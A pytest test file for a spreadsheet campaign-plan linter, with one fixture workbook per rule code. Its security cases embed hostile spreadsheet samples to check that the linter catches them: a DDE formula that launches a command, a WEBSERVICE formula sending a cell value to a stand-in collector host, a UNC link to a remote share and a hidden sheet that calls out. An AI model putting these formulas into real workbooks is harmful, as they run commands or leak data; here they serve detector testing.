"""One fixture per rule code: a tiny workbook built in code, written to .xlsx, read back with read_plan, and the
findings of that one rule as [(code, sheet, cell)].

Each case breaks the clean baseline (tests/rule_fixtures.py) in one place. Cells are real Excel addresses of the
template: Tasks rows start at 4 (T01 = row 4 … T16 = row 19), columns A=ID … E=Owner, G=Start, H=End, I=Status,
L=Depends on; Budget D=Planned, E=Actual, F=Owner; Daily KPI A=Date … H=New users.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from xl_campaign.core.content import Content
from xl_campaign.core.rules import RULES, run_rules
from xl_campaign.io.reader import read_plan

from . import rule_fixtures as F
from . import sec_fixtures as S

Expected = list[tuple[str, str | None, str | None]]


@dataclass
class Case:
    edit: Callable[[Content], None] | None = None
    book: Callable[[Any], None] | None = None
    parts: dict[str, bytes] | None = None
    plain: dict[str, list[list[Any]]] | None = None  # a workbook without the template
    expected: Expected | None = None
    lang: str = "en"
    package: Callable[[S.Package], None] | None = None  # zip-part edits (tests/sec_fixtures.py)
    suffix: str = ".xlsx"


def _set(sheet: str, cell: str, value: Any) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        wb[sheet][cell] = value
    return edit


def _drop_kol_rows(c: Content) -> None:
    c.tables["kpi"] = [r for r in c.tables["kpi"] if r["channel"] != "KOL"]


def _duplicate_kpi_row(c: Content) -> None:
    c.tables["kpi"].append(dict(c.tables["kpi"][5]))


def _protect(wb: Any) -> None:
    from openpyxl.workbook.protection import WorkbookProtection

    wb.security = WorkbookProtection(workbookPassword="secret", lockStructure=True)


def _epoch_1904(wb: Any) -> None:
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    wb.epoch = CALENDAR_MAC_1904


def _remove_sheet(name: str) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        del wb[name]
    return edit


def _link(sheet: str, cell: str, target: str) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        wb[sheet][cell].hyperlink = target
    return edit


def _hidden_sheet(name: str, state: str, a1: str | None) -> Callable[[Any], None]:
    def edit(wb: Any) -> None:
        ws = wb.create_sheet(name)
        ws["A1"] = a1 or "kept out of sight"
        ws.sheet_state = state
    return edit


XML_MAP = (b'<MapInfo xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" SelectionNamespaces="">'
           b'<Schema ID="Schema1"><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
           b'<xs:import schemaLocation="http://example.invalid/plan.xsd"/></xs:schema></Schema></MapInfo>')

CASES: dict[str, Case] = {
    # --- XF rules that read what the package scan noted (the file-level XF codes are in test_rules_files.py)
    "XF021": Case(book=_set("Review", "A600000", "x"), expected=[("XF021", "Review", "A600000")]),
    "XF022": Case(book=_protect, expected=[("XF022", None, None)]),
    "XF023": Case(book=_epoch_1904, expected=[("XF023", None, None)]),
    # --- SEC (tests/test_sec.py builds every kind and variant; one of each here)
    "SEC001": Case(book=_set("Tasks", "B4", "=cmd|' /C calc'!A0"), expected=[("SEC001", "Tasks", "B4")]),
    "SEC002": Case(package=lambda p: S.with_vba(S.vba_project(S.AUTO_OPEN))(p), suffix=".xlsm",
                   expected=[("SEC002", None, None)]),
    "SEC003": Case(package=lambda p: S.with_vba(S.xlwings_vba())(p), suffix=".xlsm",
                   expected=[("SEC003", None, None)]),
    "SEC004": Case(package=S.macro_sheet, suffix=".xlsm", expected=[("SEC004", "Macro1", None)]),
    "SEC005": Case(book=_set("Budget", "L4", '=_xlfn.WEBSERVICE("https://collector.example/?b="&J13)'),
                   expected=[("SEC005", "Budget", "L4")]),
    "SEC006": Case(parts={"xl/xmlMaps.xml": XML_MAP}, expected=[("SEC006", None, None)]),
    "SEC007": Case(package=S.connections, expected=[("SEC007", None, None), ("SEC007", None, None)]),
    "SEC008": Case(package=S.power_query, expected=[("SEC008", None, None)]),
    "SEC009": Case(package=S.embedded_workbook("Review"), expected=[("SEC009", "Review", None)]),
    "SEC010": Case(package=S.activex_button("Tasks"), expected=[("SEC010", "Tasks", None)]),
    "SEC011": Case(book=_link("Tasks", "N4", "\\\\203.0.113.9\\share\\plan.lnk"),
                   expected=[("SEC011", "Tasks", "N4")]),
    "SEC012": Case(book=_hidden_sheet("data_bak", "veryHidden", None), expected=[("SEC012", "data_bak", None)]),
    "SEC013": Case(book=_hidden_sheet("calc", "hidden", '=_xlfn.WEBSERVICE("http://x.example/")'),
                   expected=[("SEC013", "calc", "A1")]),
    # --- WB
    "WB001": Case(plain={"Data": [["Budget", "Spend", "Ratio"], [100, 20, 0.2]]}, expected=[("WB001", None, None)]),
    "WB002": Case(book=_remove_sheet("Channels"), expected=[("WB002", None, None)]),
    "WB003": Case(plain={"Overview": [["Campaign name", "X"]],
                         "Tasks": [["Task", "Start", "End"], ["Posters", date(2024, 5, 1), date(2024, 5, 2)]]},
                  expected=[("WB003", "Tasks", None)]),
    "WB004": Case(book=_set("Budget", "G4", "#DIV/0!"), expected=[("WB004", "Budget", "G4")]),
    "WB005": Case(expected=[("WB005", "Tasks", "AL1")]),  # the first formula: the timeline's status date
    "WB006": Case(lambda c: F.row(c, "budget", 0, planned="80,000"), expected=[("WB006", "Budget", "D4")]),
    "WB007": Case(lambda c: F.task(c, "T03", start="2024/05/09"), expected=[("WB007", "Tasks", "G6")]),
    "WB008": Case(lambda c: F.task(c, "T14", status="Pending"), expected=[("WB008", "Tasks", "I17")]),
    "WB009": Case(book=lambda wb: (_set("Channels", "M4", 0.05)(wb), _set("Budget", "J10", 440_000)(wb)),
                  expected=[("WB009", "Budget", "J10"), ("WB009", "Channels", "M4")]),
    "WB010": Case(lambda c: F.row(c, "budget", 0, item=None), expected=[("WB010", "Budget", "B4")]),
    "WB011": Case(lambda c: F.overview(c, launch=None), expected=[("WB011", "Overview", "B7")]),
    "WB012": Case(lambda c: F.task(c, "T05", id="T04"), expected=[("WB012", "Tasks", "A8")]),
    "WB013": Case(lambda c: F.row(c, "channels", 0, share="sixty"), expected=[("WB013", "Channels", "C4")]),
    "WB015": Case(book=lambda wb: (_set("Team", "A10", "Xiao Zhao")(wb), _set("Team", "B10", "Data")(wb)),
                  expected=[("WB015", "Team", "A10")]),
    "WB016": Case(book=lambda wb: wb.copy_worksheet(wb["Budget"]), expected=[("WB016", "Budget Copy", None)]),
    "WB017": Case(lambda c: F.row(c, "kpi", 0, channel="Short video "), expected=[("WB017", "Daily KPI", "B4")]),
    "WB014": Case(lambda c: F.row(c, "materials", 0, quantity=2.5), expected=[("WB014", "Materials", "C4")]),
    # --- OWN
    "OWN001": Case(lambda c: F.task(c, "T07", owner=None), expected=[("OWN001", "Tasks", "E10")]),
    "OWN002": Case(lambda c: F.row(c, "materials", 0, owner=None), expected=[("OWN002", "Materials", "E4")]),
    "OWN003": Case(lambda c: F.row(c, "budget", 0, owner=None), expected=[("OWN003", "Budget", "F4")]),
    "OWN004": Case(lambda c: F.task(c, "T08", owner="*Xiao Hongg"), expected=[("OWN004", "Tasks", "E11")]),
    "OWN005": Case(lambda c: F.task(c, "T09", owner="Xiao Hong, Xiao Ming"), expected=[("OWN005", "Tasks", "E12")]),
    "OWN006": Case(lambda c: F.overview(c, owner=None), expected=[("OWN006", "Overview", "B9")]),
    "OWN007": Case(lambda c: (F.task(c, "T07", end=date(2024, 5, 20), status="In progress"),
                              F.task(c, "T08", end=date(2024, 5, 20), status="In progress")),
                   expected=[("OWN007", "Tasks", "E10")]),
    # --- DATE
    "DATE001": Case(lambda c: F.task(c, "T03", end="next Friday"), expected=[("DATE001", "Tasks", "H6")]),
    "DATE002": Case(lambda c: F.task(c, "T03", start="05/06/2024"), expected=[("DATE002", "Tasks", "G6")]),
    "DATE003": Case(lambda c: F.task(c, "T03", start="5月9日"), expected=[("DATE003", "Tasks", "G6")]),
    "DATE004": Case(lambda c: F.task(c, "T03", end=date(2024, 5, 8)), expected=[("DATE004", "Tasks", "H6")]),
    "DATE005": Case(lambda c: F.task(c, "T04", stage=None, start=date(2024, 7, 1), end=date(2024, 7, 2)),
                    expected=[("DATE005", "Tasks", "G7")]),
    "DATE006": Case(lambda c: F.task(c, "T02", start=date(2024, 5, 12), end=date(2024, 5, 13)),
                    expected=[("DATE006", "Tasks", "H5")]),
    "DATE007": Case(lambda c: (F.task(c, "T07", start=date(2024, 5, 14)), F.task(c, "T08", start=date(2024, 5, 14))),
                    expected=[("DATE007", "Tasks", "G10")]),
    "DATE008": Case(lambda c: F.task(c, "T07", start=date(2024, 5, 1)), expected=[("DATE008", "Tasks", "G10")]),
    "DATE009": Case(lambda c: F.task(c, "T16", end=date(2024, 6, 20)), expected=[("DATE009", "Tasks", "H19")]),
    "DATE018": Case(lambda c: F.task(c, "T01", end=date(2024, 5, 3)), expected=[("DATE018", "Tasks", "H4")]),
    "DATE019": Case(lambda c: F.overview(c, region="East China"), expected=[("DATE019", "Overview", "B14")]),
    "DATE020": Case(lambda c: F.task(c, "T03", depends_on="T04"), expected=[("DATE020", "Tasks", "L6")]),
    "DATE010": Case(lambda c: F.task(c, "T04", start=date(2024, 5, 8)), expected=[("DATE010", "Tasks", "G7")]),
    "DATE011": Case(lambda c: F.task(c, "T04", depends_on="T3"), expected=[("DATE011", "Tasks", "L7")]),
    "DATE012": Case(lambda c: F.row(c, "materials", 3, due=date(2024, 5, 20)),
                    expected=[("DATE012", "Materials", "D7")]),
    "DATE013": Case(lambda c: F.task(c, "T06", status="In progress", progress=0.8),
                    expected=[("DATE013", "Tasks", "H9")]),
    "DATE014": Case(lambda c: F.task(c, "T14", status="Done", progress=1), expected=[("DATE014", "Tasks", "I17")]),
    "DATE015": Case(lambda c: F.task(c, "T14", start=date(2024, 5, 20)), expected=[("DATE015", "Tasks", "I17")]),
    "DATE016": Case(lambda c: F.task(c, "T12", end="活动全程"), expected=[("DATE016", "Tasks", "H15")]),
    "DATE017": Case(lambda c: F.task(c, "T11", start=None, end=None), expected=[("DATE017", "Tasks", "G14")]),
    # --- BUD
    "BUD012": Case(lambda c: F.row(c, "budget", 0, planned=50_000), expected=[("BUD012", "Overview", "B11")]),
    "BUD001": Case(lambda c: F.row(c, "budget", 6, planned=30_000), expected=[("BUD001", "Budget", "D10")]),
    "BUD002": Case(lambda c: F.row(c, "budget", 6, planned=100_000), expected=[("BUD002", "Budget", "D10")]),
    "BUD003": Case(lambda c: F.row(c, "budget", 1, planned="tbd"), expected=[("BUD003", "Budget", "D5")]),
    "BUD004": Case(lambda c: F.row(c, "budget", 1, actual=-3000), expected=[("BUD004", "Budget", "E5")]),
    "BUD005": Case(lambda c: F.row(c, "budget", 5, category="Marketing"), expected=[("BUD005", "Budget", "A9")]),
    "BUD006": Case(lambda c: F.row(c, "budget", 2, planned=100_000),
                   expected=[("BUD006", "Channels", "C4"), ("BUD006", "Channels", "C5"),
                             ("BUD006", "Channels", "C6")]),
    "BUD007": Case(lambda c: F.row(c, "channels", 2, share=0.2), expected=[("BUD007", "Channels", "C4")]),
    "BUD008": Case(lambda c: F.overview(c, total_budget=400_000), expected=[("BUD008", "Overview", "B11")]),
    "BUD009": Case(lambda c: F.row(c, "budget", 2, actual=160_000), expected=[("BUD009", "Budget", "E6")]),
    "BUD010": Case(book=_set("Budget", "J10", 420_000), expected=[("BUD010", "Budget", "J10")]),
    "BUD011": Case(lambda c: F.row(c, "budget", 2, channel="TikTok"), expected=[("BUD011", "Budget", "C6")]),
    # --- KPI
    "KPI001": Case(lambda c: F.row(c, "kpi", 0, clicks=20_000), expected=[("KPI001", "Daily KPI", "D4")]),
    "KPI002": Case(lambda c: F.row(c, "kpi", 0, conversions=5_000), expected=[("KPI002", "Daily KPI", "E4")]),
    "KPI003": Case(lambda c: F.row(c, "kpi", 1, spend=-5), expected=[("KPI003", "Daily KPI", "G5")]),
    "KPI004": Case(_duplicate_kpi_row, expected=[("KPI004", "Daily KPI", "A31")]),
    "KPI005": Case(lambda c: F.row(c, "kpi", 0, channel="TikTok"), expected=[("KPI005", "Daily KPI", "B4")]),
    "KPI006": Case(lambda c: F.row(c, "kpi", 0, date=date(2023, 5, 13)), expected=[("KPI006", "Daily KPI", "A4")]),
    "KPI007": Case(lambda c: F.row(c, "channels", 2, target_impressions=None, target_clicks=None,
                                   target_conversions=None, target_revenue=None),
                   expected=[("KPI007", "Channels", "D6")]),
    "KPI008": Case(_drop_kol_rows, expected=[("KPI008", "Overview", "B19"), ("KPI008", "Channels", "D5"), ("KPI008", "Channels", "E5"),
                                             ("KPI008", "Channels", "F5"), ("KPI008", "Channels", "G5")]),
    "KPI010": Case(lambda c: F.row(c, "goals", 0, target=8_000), expected=[("KPI010", "Overview", "B19")]),
    "KPI011": Case(lambda c: F.row(c, "goals", 2, target="+10%"), expected=[("KPI011", "Overview", "D21")]),
    "KPI009": Case(lambda c: F.row(c, "kpi", 0, impressions="n/a"), expected=[("KPI009", "Daily KPI", "C4")]),
    # --- REV
    "REV001": Case(lambda c: F.row(c, "review", 0, owner=None, due=None),
                   expected=[("REV001", "Review", "C4"), ("REV001", "Review", "E4")]),
    "REV002": Case(lambda c: (F.overview(c, as_of=date(2024, 6, 12)), c.tables.__setitem__("review", [])),
                   expected=[("REV002", "Review", "A4")]),
    "REV003": Case(lambda c: F.row(c, "touchpoints", 1, **{"metric:Share rate": "about six"}),
                   expected=[("REV003", "Touchpoints", "D5")]),
    # --- MAT
    "MAT001": Case(lambda c: F.row(c, "materials", 4, status="In progress"), expected=[("MAT001", "Materials", "D8")]),
    "MAT002": Case(lambda c: F.row(c, "materials", 0, task_id="T99"), expected=[("MAT002", "Materials", "F4")]),
    "MAT003": Case(lambda c: F.row(c, "materials", 0, quantity=0), expected=[("MAT003", "Materials", "C4")]),
    "MAT004": Case(lambda c: F.row(c, "materials", 0, due=None, status="In progress"), expected=[("MAT004", "Materials", "D4")]),
}


def findings_of(case: Case, code: str, tmp_path: Path) -> Expected:
    path = tmp_path / f"{code}{case.suffix}"
    if case.plain is not None:
        F.plain_book(path, case.plain)
    else:
        content = F.baseline(case.lang)
        if case.edit is not None:
            case.edit(content)
        F.write(content, path, case.book, case.parts)
        if case.package is not None:
            S.edit(path, case.package)
    plan = read_plan(path)
    found = run_rules(plan, select=[code])
    # every message and hint exists in both languages
    chinese = run_rules(plan, select=[code], lang="zh")
    assert [(f.code, f.cell) for f in chinese] == [(f.code, f.cell) for f in found]
    for zh, en in zip(chinese, found, strict=True):
        assert _has_cjk(zh.message) and zh.message != en.message
        assert (zh.hint is None) == (en.hint is None) and (zh.hint is None or _has_cjk(zh.hint))
    return [(f.code, f.sheet, f.cell) for f in found]


def _has_cjk(text: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in text)


def test_every_plan_rule_has_a_fixture() -> None:
    plan_rules = {code for code, r in RULES.items() if r.func is not None}
    assert plan_rules == set(CASES)


def test_baseline_is_clean(tmp_path: Path) -> None:
    for lang in ("en", "zh"):
        path = F.write(F.baseline(lang), tmp_path / f"baseline-{lang}.xlsx")
        assert [f.code for f in run_rules(read_plan(path))] == ["WB005"]


@pytest.mark.parametrize("code", sorted(CASES))
def test_rule_fixture(code: str, tmp_path: Path) -> None:
    case = CASES[code]
    assert sorted(findings_of(case, code, tmp_path)) == sorted(case.expected or [])
